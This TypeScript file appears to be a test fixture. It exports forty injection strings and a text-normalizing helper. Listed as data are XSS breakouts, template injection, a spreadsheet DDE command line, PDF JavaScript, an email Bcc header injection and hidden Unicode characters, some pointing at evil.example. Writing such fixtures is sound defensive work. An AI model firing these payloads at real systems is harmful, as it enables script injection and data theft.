// What somebody may write where words are asked, hoping that it is something else than words: forty ways out of a text, an
// attribute, an address, a style, a template, a sheet of a spreadsheet, a PDF, a letter, a log.
export const payloads: readonly string[] = [
  "<script>hit()</script>",
  `"><script>hit()</script>`,
  "</title><script>hit()</script>",
  "</textarea><script>hit()</script>",
  "</style><script>hit()</script>",
  "<img src=x onerror=hit()>",
  `<img src="x" onerror="hit()">`,
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x>",
  "<math><mi xlink:href=javascript:hit()>x</mi></math>",
  "<iframe srcdoc='<script>hit()</script>'>",
  "<iframe src=javascript:hit()>",
  "<object data=javascript:hit()>",
  "<embed src=javascript:hit()>",
  "<body onload=hit()>",
  "<details open ontoggle=hit()>",
  "<input autofocus onfocus=hit()>",
  "<a href=javascript:hit()>klik</a>",
  "<a href='data:text/html,<script>hit()</script>'>klik</a>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=javascript:hit()><button>ok</button></form>",
  "' onmouseover='hit()",
  `" onmouseover="hit()`,
  "javascript:hit()",
  "data:text/html,<script>hit()</script>",
  "</script><script>hit()</script>",
  "--><script>hit()</script><!--",
  "]]><script>hit()</script>",
  "{{constructor.constructor('hit()')()}}",
  "${hit()}",
  "<%= hit() %>",
  "expression(hit()); background:url(javascript:hit())",
  "=HYPERLINK('https://evil.example','klik')",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "(\\)>>endobj /OpenAction<</S/JavaScript/JS(hit\\(\\))>>",
  "x\r\nBcc: iedereen@evil.example\r\n\r\nBEGIN:VEVENT",
  "\u202etxet neeG\u202c \u200bnul\u200bbreed\u2066x\u2069",
];

/** As the eye sees it: blanks of any kind are one blank, and what has no width is nothing. */
export const seen = (text: string): string =>
  text
    .normalize("NFC")
    .replace(/\p{Cf}/gu, "")
    .replace(/\s+/g, " ")
    .trim();
